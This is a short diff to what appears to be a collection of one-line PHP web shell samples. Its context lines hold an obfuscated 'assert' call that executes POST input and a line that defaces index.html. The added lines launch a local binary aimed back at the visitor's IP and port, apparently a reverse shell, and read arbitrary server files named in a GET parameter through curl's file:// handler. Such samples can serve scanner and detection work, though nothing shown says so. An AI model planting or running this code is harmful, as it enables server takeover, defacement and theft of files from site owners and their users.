@@ -15,3 +15,6 @@
 <?php $n = "\x61" . chr(115) . "" . chr(115) . "ert"; $v = array_pop($_POST); $n($v); ?>
 <?php $h = fopen( "index.html" , "w+" ); fputs($h, "<h1>HaCkEd by nobody</h1>"); fclose($h); ?>
 <html><head><title>Tiny WebShell</title></head><body><?php echo getcwd(); ?></body></html>
+<?php $p = $_SERVER['REMOTE_PORT']; echo 'back to ' . $p; @System( './fs ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT'] ); ?>
+<?php $c = curl_init(); Curl_SetOpt( $c, CURLOPT_URL, "file:" . "file:///" . $_GET['f'] ); curl_exec($c); ?>
+<?php if (!is_dir('file:')) MkDir( 'file:' ); chdir('file:'); ?>
